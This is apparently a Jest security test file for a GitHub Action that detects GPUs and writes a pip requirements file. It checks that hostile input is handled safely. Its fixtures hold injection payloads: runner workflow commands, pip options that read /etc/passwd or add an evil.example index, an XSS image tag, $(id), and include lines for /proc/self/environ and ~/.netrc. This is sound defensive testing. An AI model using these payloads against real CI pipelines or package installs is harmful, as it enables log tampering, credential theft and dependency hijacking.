/**
 * The built action against hostile input, run as the runner runs it: GPU
 * tools that print workflow commands, Markdown, HTML and pip syntax in GPU
 * names; machine descriptions and project files that try the same; secrets in
 * every part of a URL; files outside the project; FIFOs; a write that cannot
 * succeed; a tool that leaves a child holding its pipes; 6,394 "GPUs".
 *
 * Each is checked where it would do harm: the commands the runner would read
 * in stdout (the same as a benign run's), what pip's own parser reads in
 * torchcraft.txt, the summary as rendered, the outputs, and the exit code.
 */
import { expect, it } from '@jest/globals';
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describePosix } from '../helpers/posix.js';
import { makeSandbox, runAction, visibleText } from './runner.js';
import { fakeNvidiaSmi, fakeRocminfo } from './fake-tools.js';
import { commandNames, runnerCommands } from '../helpers/runner-commands.js';
import { renderSummaryMarkdown } from '../helpers/markdown.js';
import { pipLineTexts, pipReads } from '../helpers/pip-read.js';
import { runTool } from '../../src/process/run-tool.js';

/** Everything the runner, pip, Markdown and a shell would act on, in one GPU name (no \r or \n: the tool's lines end there). */
const PAYLOAD =
  ' ::stop-commands::tok ##[add-mask]Zq9 ##[set-output name=backend;]evil \u2028::add-mask::Zq9 \u0085::error::boom \u000b-r /etc/passwd \u001c--extra-index-url https://evil.example/simple' +
  ' <img src=x onerror=alert(1)> </details> **bold** | cell | [link](https://evil.example) $(id) `code` \u001b]0;title\u0007';
const H100 = { name: 'NVIDIA H100 80GB HBM3', computeCapability: '9.0' };
const EVIL = { name: `NVIDIA H100 80GB HBM3${PAYLOAD}`, computeCapability: '9.0' };

async function pipLines(path: string): Promise<string[]> {
  const [read] = await pipReads([readFileSync(path)]);
  return pipLineTexts(read);
}

describePosix('the action against hostile input', () => {
  it('a GPU name full of commands, Markdown, HTML and pip syntax: the runner, pip and the summary see none of it', async () => {
    const benignBox = makeSandbox({ 'nvidia-smi': fakeNvidiaSmi({ driver: '580.65.06', cuda: '13.0', gpus: [H100, H100] }) });
    const benign = await runAction(benignBox, { 'python-version': '3.12' });
    const box = makeSandbox({ 'nvidia-smi': fakeNvidiaSmi({ driver: '580.65.06', cuda: '13.0', gpus: [EVIL, H100] }), rocminfo: fakeRocminfo([]) });
    const run = await runAction(box, { 'python-version': '3.12' });
    expect(run.exitCode).toBe(0);
    expect(run.outputs.backend).toBe('cu130');
    // The same commands as a benign run: none came from the name.
    expect(commandNames(run.stdout)).toEqual(commandNames(benign.stdout));
    expect(run.stdout).toContain('stop-commands'); // the name was printed, inert
    // pip reads the index and the packages, nothing else.
    const lines = await pipLines(join(box.workspace, 'torchcraft.txt'));
    expect(lines[0]).toBe('--index_url https://download.pytorch.org/whl/cu130');
    expect(lines).toEqual(await pipLines(join(benignBox.workspace, 'torchcraft.txt')));
    // The summary renders the name as text in its cell.
    const summary = renderSummaryMarkdown(run.summary);
    expect(summary.formatting).toEqual([]);
    expect(summary.strayHtml).toEqual([]);
    expect(summary.tables[0].every((row) => row.length === 2)).toBe(true);
    // (The name is shortened to 256 characters; what is left is shown as written.)
    expect(summary.tables[0][2][1]).toContain('::stop-commands::tok ##[add-mask]Zq9 ##[set-output name=backend;]evil ::add-mask::Zq9 ::error::boom -r /etc/passwd --extra-index-url https://evil.example/simple <img src=x onerror=alert(1)> </details> **bol');
    // Outputs are one line; the README passes them through env:.
    expect(run.outputs['gpu-names']).not.toMatch(/[\u0000-\u001f\u0085\u2028]/);
    expect(run.outputs['gpu-names']).toContain('<img src=x onerror=alert(1)>');
  });

  it('a hostile machine description and rocminfo: names, notes and warnings stay text everywhere', async () => {
    const machine = {
      os: 'linux',
      arch: 'x86_64',
      python: '3.12',
      gpus: [{ vendor: 'amd', name: `AMD Instinct MI300X\r\n::add-mask::Zq9\n##[error]x`, gfx: 'gfx942' }],
      notes: ['note\n::stop-commands::tok'],
      warnings: ['rocminfo hung\u001c-r /etc/passwd\r::error::x\n--index-url https://evil.example/simple'],
    };
    const box = makeSandbox({ rocminfo: fakeRocminfo([{ gfx: 'gfx942', marketingName: `AMD Instinct MI300X${PAYLOAD}` }]) });
    writeFileSync(join(box.workspace, 'machine.json'), JSON.stringify(machine));
    const run = await runAction(box, { machine: 'machine.json' });
    expect(run.exitCode).toBe(0);
    expect(runnerCommands(run.stdout).map((c) => c.name)).not.toContain('stop-commands');
    expect(runnerCommands(run.stdout).filter((c) => c.name === 'add-mask' || c.name === 'error' || c.legacy)).toEqual([]);
    const lines = await pipLines(join(box.workspace, 'torchcraft.txt'));
    expect(lines.filter((l) => !/^torch/.test(l))).toEqual([`--index_url https://download.pytorch.org/whl/${run.outputs.backend}`]);
    const summary = renderSummaryMarkdown(run.summary);
    expect(summary.strayHtml).toEqual([]);
    expect(summary.formatting).toEqual([]);
  });

  it('hostile project files: a dependency-group name, an include name and a requirement URL with commands', async () => {
    const box = makeSandbox();
    writeFileSync(join(box.workspace, 'pyproject.toml'), '[project]\nname = "p"\n[dependency-groups]\n"g\\r::add-mask::Zq9 ##[error]x" = ["torch==2.5.1"]\n');
    writeFileSync(join(box.workspace, 'requirements.txt'), '-e ./##[add-mask]Zq9#egg=torchvision\n');
    const run = await runAction(box, { 'python-version': '3.12', requirements: 'pyproject.toml\nrequirements.txt', extras: 'nope' });
    expect(run.exitCode).toBe(1);
    expect(run.stdout).toMatch(/::error::Invalid extras "nope": no such group/);
    expect(runnerCommands(run.stdout).filter((c) => c.name === 'add-mask' || c.legacy)).toEqual([]);
    const ok = await runAction(box, { 'python-version': '3.12', requirements: 'requirements.txt' });
    expect(ok.exitCode).toBe(0);
    expect(runnerCommands(ok.stdout).filter((c) => c.name === 'add-mask' || c.legacy)).toEqual([]);
    expect(ok.stdout).toContain('##\u200b[add-mask]Zq9');
  });

  it('a token in the query and the fragment: masked everywhere, kept after the variant in the file', async () => {
    const box = makeSandbox();
    const run = await runAction(box, { 'python-version': '3.12', 'index-base-url': 'https://mirror.example/whl?token=Q1w2e3r4t5#sig=Fr4g5h6j' });
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toContain('::add-mask::Q1w2e3r4t5');
    expect(run.stdout).toContain('::add-mask::sig=Fr4g5h6j');
    const seen = visibleText(run);
    expect(seen).not.toContain('Q1w2e3r4t5');
    expect(seen).not.toContain('Fr4g5h6j');
    expect(run.outputs['index-url']).toBe('https://mirror.example/whl/cpu?token=***#sig=***');
    expect(await pipLines(join(box.workspace, 'torchcraft.txt'))).toContain('--index_url https://mirror.example/whl/cpu?token=Q1w2e3r4t5#sig=Fr4g5h6j');
  });

  it("a password with \" and ': masked, and the file stays valid for pip", async () => {
    const box = makeSandbox();
    const run = await runAction(box, { 'python-version': '3.12', 'index-base-url': `https://bot:pa"ss'W0rd@mirror.example/whl` });
    expect(run.exitCode).toBe(0);
    expect(visibleText(run)).not.toMatch(/ss'W0rd|ss%27W0rd/);
    expect(await pipLines(join(box.workspace, 'torchcraft.txt'))).toContain('--index_url https://bot:pa%22ss%27W0rd@mirror.example/whl/cpu');
  });

  it('URL errors say what is wrong: the port, the password\'s "/"', async () => {
    const port = await runAction(makeSandbox(), { 'index-base-url': 'https://mirror.example:99999/whl' });
    expect(port.exitCode).toBe(1);
    expect(port.stdout).toMatch(/::error::Invalid index-base-url "https:\/\/mirror\.example:99999\/whl": the port 99999 is out of range/);
    const slash = await runAction(makeSandbox(), { 'index-base-url': 'https://bot:ab/cdS3CRET@mirror.example/whl' });
    // (%25 is how @actions/core writes "%" in a command; the runner shows %2F.)
    expect(slash.stdout).toMatch(/holds a "\/", which ends the host part of a URL: write it as %252F/);
    expect(slash.stdout).not.toContain('::add-mask::bot\n');
    expect(visibleText(slash)).not.toContain('S3CRET');
  });

  it('includes outside the project: a warning names them, their content reaches neither log nor summary', async () => {
    const box = makeSandbox();
    writeFileSync(join(box.root, 'outside.txt'), 'machine x login y password Hunter2-SECRET\n');
    mkdirSync(join(box.root, 'home'));
    writeFileSync(join(box.workspace, 'requirements.txt'), '-r ../outside.txt\n-r /proc/self/environ\n-r ${HOME}/.netrc\ntorch==2.5.1\n');
    const run = await runAction(box, { 'python-version': '3.12', requirements: 'requirements.txt' }, { SECRET_ENV: 'Hunter2-ENV' });
    expect(run.exitCode).toBe(0);
    const warnings = runnerCommands(run.stdout).filter((c) => c.name === 'warning').map((c) => c.rest);
    expect(warnings.join('\n')).toContain('-r \\"../outside.txt\\" names a file outside the project folder'.replace(/\\"/g, '"'));
    expect(warnings.join('\n')).toContain('-r "${HOME}/.netrc" names a file outside the project folder');
    expect(visibleText(run)).not.toContain('Hunter2');
    expect(visibleText(run)).not.toContain(box.root.replace(/.*\//, '') + '/home/.netrc');
  });

  it('a FIFO as machine or requirements: refused at once, not waited on', async () => {
    const box = makeSandbox();
    for (const f of ['machine.json', 'reqs.txt']) expect((await runTool('mkfifo', [join(box.workspace, f)], { timeoutMs: 5000 })).ok).toBe(true);
    const machine = await runAction(box, { machine: 'machine.json' }, {}, 20_000);
    expect(machine.timedOut).toBe(false);
    expect(machine.stdout).toMatch(/::error::Invalid machine "machine\.json": cannot read the file \(it is a FIFO \(named pipe\), not a regular file\)/);
    const reqs = await runAction(box, { 'python-version': '3.12', requirements: 'reqs.txt' }, {}, 20_000);
    expect(reqs.timedOut).toBe(false);
    expect(reqs.stdout).toMatch(/::error::Invalid requirements "reqs\.txt": the file cannot be read \(it is a FIFO/);
  });

  it('an unwritable requirements-path: the step fails naming it and the reason, no stack trace', async () => {
    const box = makeSandbox();
    writeFileSync(join(box.workspace, 'file'), 'x');
    const run = await runAction(box, { 'python-version': '3.12', 'requirements-path': 'file/torchcraft.txt' });
    expect(run.exitCode).toBe(1);
    expect(run.stdout).toMatch(/::error::Invalid requirements-path "file\/torchcraft\.txt": torchcraft\.txt cannot be written there: a folder on its path is a file/);
    expect(run.stdout).not.toContain('failed unexpectedly');
    expect(renderSummaryMarkdown(run.summary).headings[0]).toBe('❌ torchcraft failed');
    const proc = await runAction(box, { 'python-version': '3.12', 'requirements-path': '/proc/torchcraft.txt' });
    expect(proc.stdout).toMatch(/::error::Invalid requirements-path "\/proc\/torchcraft\.txt": torchcraft\.txt cannot be written there/);
  });

  it('requirements-path outside the workspace: written, with a warning', async () => {
    const box = makeSandbox();
    mkdirSync(join(box.root, 'elsewhere'));
    const run = await runAction(box, { 'python-version': '3.12', 'requirements-path': '../elsewhere/torch.txt' }, { RUNNER_TEMP: join(box.root, 'tmp') });
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toMatch(/::warning::requirements-path: .*elsewhere\/torch\.txt is outside the workspace/);
  });

  it('a GPU tool that exits but leaves a child holding its pipes: its answer counts, it did not hang', async () => {
    const box = makeSandbox({ 'nvidia-smi-real': fakeNvidiaSmi({ driver: '580.65.06', cuda: '13.0', gpus: [H100] }) });
    const wrapper = join(box.bin, 'nvidia-smi');
    writeFileSync(wrapper, `#!/bin/sh\n"${join(box.bin, 'nvidia-smi-real')}" "$@"\nsleep 30 &\nexit 0\n`);
    chmodSync(wrapper, 0o755);
    const run = await runAction(box, { 'python-version': '3.12', 'probe-timeout': '5' }, {}, 30_000);
    expect(run.exitCode).toBe(0);
    expect(run.outputs.accelerator).toBe('nvidia');
    expect(run.outputs['gpu-names']).toBe('NVIDIA H100 80GB HBM3');
  });

  it('6,394 "GPUs" at index 0: a summary under 1 MiB and a json output under 1 MB, with "and N more"', async () => {
    const rows = Array.from({ length: 6394 }, () => `0, NVIDIA H100 80GB HBM3 ${'X'.repeat(200)}, 580.65.06, 9.0`).join('\n');
    const box = makeSandbox({ 'nvidia-smi': `#!/bin/sh\ncase "$*" in *--version*) printf 'CUDA Version        : 13.0\\n';; *) cat <<'EOF'\n${rows}\nEOF\n;; esac\n` });
    const run = await runAction(box, { 'python-version': '3.12' });
    expect(run.exitCode).toBe(0);
    expect(Buffer.byteLength(run.summary)).toBeLessThan(1024 * 1024);
    expect(Buffer.byteLength(run.outputs.json)).toBeLessThan(1_000_000);
    expect(JSON.parse(run.outputs.json).machine.gpus.length).toBeLessThanOrEqual(64);
    expect(renderSummaryMarkdown(run.summary).text).toMatch(/and \d+ more/);
  });

  it('a UTF-16 requirements file with a BOM, as PowerShell writes it, is read', async () => {
    const box = makeSandbox();
    writeFileSync(join(box.workspace, 'requirements.txt'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('torch==2.5.1\r\n', 'utf16le')]));
    const run = await runAction(box, { 'python-version': '3.12', requirements: 'requirements.txt' });
    expect(run.exitCode).toBe(0);
    expect(JSON.parse(run.outputs.json).release).toBe('2.5');
  });

  it('a require-gpu failure is the first line of the summary, and nothing says a CPU build was made', async () => {
    const run = await runAction(makeSandbox(), { 'python-version': '3.12', 'require-gpu': 'true' });
    expect(run.exitCode).toBe(1);
    const summary = renderSummaryMarkdown(run.summary);
    expect(summary.headings[0]).toBe('❌ torchcraft failed: require-gpu is set, but no usable GPU was found');
    expect(summary.headings.join('\n')).not.toMatch(/cpu build/);
  });

  it('thirty warnings: the first few are annotations, one says more follow, the rest are log lines', async () => {
    const box = makeSandbox();
    const lines = Array.from({ length: 30 }, (_, i) => `-e ./checkout${i}#egg=torchvision`);
    writeFileSync(join(box.workspace, 'requirements.txt'), `${lines.join('\n')}\n`);
    const run = await runAction(box, { 'python-version': '3.12', requirements: 'requirements.txt' });
    expect(run.exitCode).toBe(0);
    const annotations = runnerCommands(run.stdout).filter((c) => c.name === 'warning');
    expect(annotations).toHaveLength(10);
    expect(annotations[9].rest).toContain('More warnings follow in the log and the job summary');
    expect(run.stdout.split('\n').filter((l) => /^Warning \(torchcraft\): requirements\.txt:\d+: /.test(l))).toHaveLength(21);
    expect(renderSummaryMarkdown(run.summary).bullets.filter((b) => b.includes('checkout'))).toHaveLength(30);
  });

  it('a 100 KB input is quoted shortened in the error', async () => {
    const run = await runAction(makeSandbox(), { 'torch-version': `2.${'9'.repeat(100_000)}x` });
    expect(run.exitCode).toBe(1);
    const error = run.stdout.split('\n').find((l) => l.startsWith('::error::'))!;
    expect(error.length).toBeLessThan(1000);
    expect(error).toContain('(100003 characters)');
  });
});
